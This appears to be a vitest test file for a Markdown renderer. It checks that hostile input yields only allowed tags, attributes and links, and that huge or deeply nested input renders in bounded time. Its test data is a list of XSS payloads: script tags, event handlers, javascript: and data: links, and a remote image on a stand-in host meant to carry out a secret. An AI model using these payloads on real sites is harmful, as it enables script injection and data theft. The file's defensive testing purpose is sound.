// Hostile and ordinary Markdown, rendered to a string: what must never come out, and what must.
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { linkTarget } from "./linkTarget";
import { Markdown } from "./Markdown";
import { splitBlocks, splitLongList } from "./splitBlocks";

function render(text: string, growing = false): string {
  return renderToStaticMarkup(<Markdown text={text} growing={growing} />);
}

/** Names of the tags and attributes that came out, and the addresses of links. */
function inventory(html: string) {
  const tags = [...html.matchAll(/<([a-z0-9-]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/giu)];
  return {
    tags: new Set(tags.map(([, name]) => name!)),
    attributes: new Set(
      tags.flatMap(([, , list]) => [...list!.matchAll(/\s([^\s=>]+)(?:="[^"]*")?/gu)].map(([, name]) => name!)),
    ),
    links: [...html.matchAll(/href="([^"]*)"/gu)].map(([, address]) => address!),
  };
}

const ALLOWED_TAGS = new Set(
  "a blockquote br button code del div em h3 h4 h5 h6 hr li ol p path pre rect section span strong sub sup svg table tbody td th thead tr ul".split(
    " ",
  ),
);
const ALLOWED_ATTRIBUTES =
  /^(class|dir|href|title|rel|draggable|role|aria-[a-z]+|tabindex|type|translate|start|style|d|x|y|rx|ry|width|height|fill|stroke[a-z-]*|viewBox|xmlns)$/iu;

/** What of it must not be there: tags, attributes, addresses. */
function harmIn(html: string): string[] {
  const { tags, attributes, links } = inventory(html);
  return [
    ...[...tags].filter((tag) => !ALLOWED_TAGS.has(tag)),
    ...[...attributes].filter((attribute) => !ALLOWED_ATTRIBUTES.test(attribute)),
    ...links.filter((link) => !/^(?:https?:\/\/|mailto:)/u.test(link)),
  ];
}

const hostile: readonly (readonly [string, string])[] = [
  ["script", "<script>alert(1)</script>"],
  ["script across lines", "text\n\n<script\nsrc=https://evil.example/x.js\n></script>\n\nmore"],
  ["event handler", '<img src=x onerror="alert(1)">'],
  ["svg onload", "<svg onload=alert(1)><circle/></svg>"],
  ["svg in text", "hello <svg/onload=alert(1)> there"],
  ["iframe", '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
  [
    "style",
    "<style>@import url(https://evil.example/a.css)</style><p style='background:url(https://evil.example)'>x</p>",
  ],
  [
    "form",
    '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
  ],
  [
    "base, meta, link",
    '<base href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example>',
  ],
  ["details ontoggle", "<details open ontoggle=alert(1)>x</details>"],
  ["math", "<math><mtext><img src=x onerror=alert(1)></mtext></math>"],
  ["javascript link", "[click](javascript:alert(1))"],
  [
    "javascript link, mixed case and entities",
    "[click](JaVaScRiPt&colon;alert(1)) [b](java&#x0A;script:alert(1)) [c](  javascript:alert(1))",
  ],
  ["javascript autolink", "<javascript:alert(1)>"],
  ["data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  [
    "vbscript, file and app links",
    "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](app://facet/index.html) [s](smb://evil.example/a) [v](vscode://x)",
  ],
  ["relative links", "[x](/etc/passwd) [y](../a) [z](#frag) [e]() [p](//evil.example/x)"],
  ["reference link", '[x][1]\n\n[1]: javascript:alert(1) "t"'],
  ["link with a user name", "[x](https://bank.example@evil.example/)"],
  ["link title that breaks out", '[x](https://a.example "\\"><img src=x onerror=alert(1)>")'],
  ["remote image", "![your chat](https://evil.example/p.png?q=secret)"],
  ["data image", "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  ["reference image", "![a][i]\n\n[i]: https://evil.example/i.png"],
  ["image in a link", "[![a](https://evil.example/p.png)](https://evil.example)"],
  ["html comment", "a <!-- <img src=x onerror=alert(1)> --> b\n\n<!-- x"],
  ["cdata and declarations", "<![CDATA[<script>alert(1)</script>]]> <!DOCTYPE html> <?php echo 1 ?>"],
  ["fence with markup for a language", '```"><img/src=x/onerror=alert(1)>\ncode\n```'],
  ["fence with markup inside", "```html\n<script>alert(1)</script>\n```"],
  ["table with markup", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |"],
  ["footnotes", "a[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:1)"],
  [
    "right-to-left override and zero width",
    "safe\u202Egpj.exe\u202C \u200B\u200D[goo\u200Bgle](https://google.com\u202E.evil.example)",
  ],
  ["prototype names", "[__proto__](constructor) ```constructor\nx\n```\n\n```__proto__\nx\n```"],
  ["nul and lone surrogates", "a\u0000b \uD800 c \uDFFF"],
];

/** A busy machine is slow; what these guard against takes minutes. */
const MAX_MS = 10_000;

describe("hostile Markdown", () => {
  it.each(hostile)("%s runs nothing and loads nothing", (_name, text) => {
    for (const growing of [false, true]) expect(harmIn(render(text, growing))).toEqual([]);
  });

  it.each(hostile)("%s is harmless at each point of its arrival", (_name, text) => {
    for (let length = 1; length < text.length; length += 3)
      expect(harmIn(render(text.slice(0, length), true))).toEqual([]);
  });

  it("shows HTML as the text that it is", () => {
    expect(render("<b>x</b> <script>alert(1)</script>")).toContain("&lt;script&gt;");
  });

  it("shows an image's words, not the image", () => {
    const html = render("![a cat](https://evil.example/p.png)");
    expect(html).toContain("Image not loaded: a cat");
    expect(html).not.toContain("<img");
  });

  const costly: readonly (readonly [string, string])[] = [
    ["nested quotes", ">".repeat(20_000) + " x"],
    ["nested quotes, spaced", "> ".repeat(5000) + "x"],
    ["nested lists", Array.from({ length: 500 }, (_unused, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
    ["nested list marks", "- ".repeat(20_000) + "x"],
    ["open brackets", "[".repeat(50_000)],
    ["brackets and parentheses", "[a](".repeat(10_000)],
    ["image marks", "![".repeat(20_000)],
    ["emphasis marks", "*a **b ".repeat(10_000)],
    ["only stars", "*".repeat(100_000)],
    ["backticks of growing length", Array.from({ length: 600 }, (_unused, length) => "`".repeat(length)).join(" ")],
    ["underscores", "_a".repeat(20_000)],
    ["angle brackets", "<".repeat(50_000)],
    ["open tags", "<a ".repeat(20_000)],
    ["pipes", "|".repeat(20_000) + "\n" + "|-".repeat(10_000)],
    ["entities", "&#x41;".repeat(20_000)],
    ["references", "[a]: x\n".repeat(5000)],
    ["a line of a million characters", "x".repeat(1_000_000)],
    ["a line of words of a million characters", "word ".repeat(200_000)],
    ["a million line breaks", "\n".repeat(1_000_000)],
    ["a code block of a million characters", "```js\n" + "x = 1;\n".repeat(150_000) + "```"],
    ["dollar signs", "$$".repeat(20_000)],
    ["tildes", "~~a ".repeat(10_000)],
    ["addresses", "www.a.b ".repeat(5000)],
    ["at signs", "a@b.c ".repeat(5000)],
    ["a hundred thousand paragraphs", "a\n\n".repeat(100_000)],
    ["footnotes", Array.from({ length: 1000 }, (_unused, index) => `[^${index}] `).join("") + "\n\n[^1]: x"],
  ];

  it.each(costly)(
    "%s: drawn in bounded time, without a crash",
    (_name, text) => {
      const before = performance.now();
      for (const growing of [false, true]) expect(harmIn(render(text, growing))).toEqual([]);
      expect(performance.now() - before).toBeLessThan(MAX_MS);
    },
    30_000,
  );

  it.each(costly)(
    "%s, as long as is still parsed",
    (_name, text) => {
      const before = performance.now();
      expect(harmIn(render(text.slice(0, 15_900), true))).toEqual([]);
      expect(performance.now() - before).toBeLessThan(MAX_MS);
    },
    30_000,
  );
});

describe("Markdown", () => {
  it("draws headings below the page's and the message's own", () => {
    expect(render("# One\n\n## Two")).toMatch(/<h3[^>]*>One<\/h3><h4[^>]*>Two<\/h4>/u);
  });

  it("draws lists, tasks, tables and code", () => {
    const html = render(
      "3. three\n4. four\n\n- [x] done\n- [ ] open\n\n| a | b |\n|--:|---|\n| 1 | x<br>y |\n\n`inline`\n\n```python\nprint(1)\n```",
    );
    expect(html).toContain('<ol start="3">');
    expect(html).toContain("Done:");
    expect(html).toContain("Not done:");
    expect(html).toContain("text-align:right");
    expect(html).toMatch(/x<br\/?>\s*y/u);
    expect(html).toContain("<code>inline</code>");
    expect(html).toContain('aria-label="Code, python"');
    expect(html).toContain("print(1)");
  });

  it("draws web and mail addresses as links", () => {
    const { links } = inventory(
      render("<https://example.org/a?b=c> [m](mailto:a@example.org?attach=/etc/passwd) https://example.org"),
    );
    expect(links).toEqual(["https://example.org/a?b=c", "mailto:a@example.org", "https://example.org/"]);
  });

  it("draws the same whether the text has just ended or came whole", () => {
    const text = "Some **bold** text\n\n- a\n- b\n\n```js\nlet a = 1;\n```\n\nEnd.";
    expect(render(text, true)).toBe(render(text, false));
  });

  it("finishes an unfinished mark while growing", () => {
    expect(render("some **bol", true)).toContain("<strong>bol</strong>");
  });
});

describe("link targets", () => {
  it.each([
    ["https://example.org/x", "https://example.org/x"],
    ["HTTP://EXAMPLE.org", "http://example.org/"],
    ["https://аpple.com/", "https://xn--pple-43d.com/"],
    ["mailto:a@b.example?body=x", "mailto:a@b.example"],
    ["javascript:alert(1)", null],
    ["java\nscript:alert(1)", null],
    ["data:text/html,x", null],
    ["ftp://a.example", null],
    ["https://user:secret@a.example", null],
    ["//a.example", null],
    ["mailto:", null],
    [`https://a.example/${"x".repeat(3000)}`, null],
    [undefined, null],
  ])("%s → %s", (address, target) => {
    expect(linkTarget(address)).toBe(target);
  });
});

describe("blocks", () => {
  it("cuts a long bullet list between items, and loses nothing", () => {
    const list = Array.from(
      { length: 200 },
      (_unused, index) => `- item ${index} with some words\n  and a second line\n`,
    ).join("");
    const pieces = splitLongList(list);
    expect(pieces.length).toBeGreaterThan(3);
    expect(pieces.join("")).toBe(list);
    for (const piece of pieces) expect(piece).toMatch(/^- /u);
  });

  it("cuts a numbered list only where the numbers go on", () => {
    const counted = Array.from({ length: 200 }, (_unused, index) => `${index + 1}. some words here\n`).join("");
    expect(splitLongList(counted).length).toBeGreaterThan(1);
    const lazy = "1. some words here\n".repeat(200);
    expect(splitLongList(lazy)).toEqual([lazy]);
  });

  it("blocks joined are the text", () => {
    const text = "# a\n\npara\n\n```js\nx\n\ny\n```\n\n- a\n\n- b\n\n> q\n";
    expect(splitBlocks(text).join("")).toBe(text);
  });
});
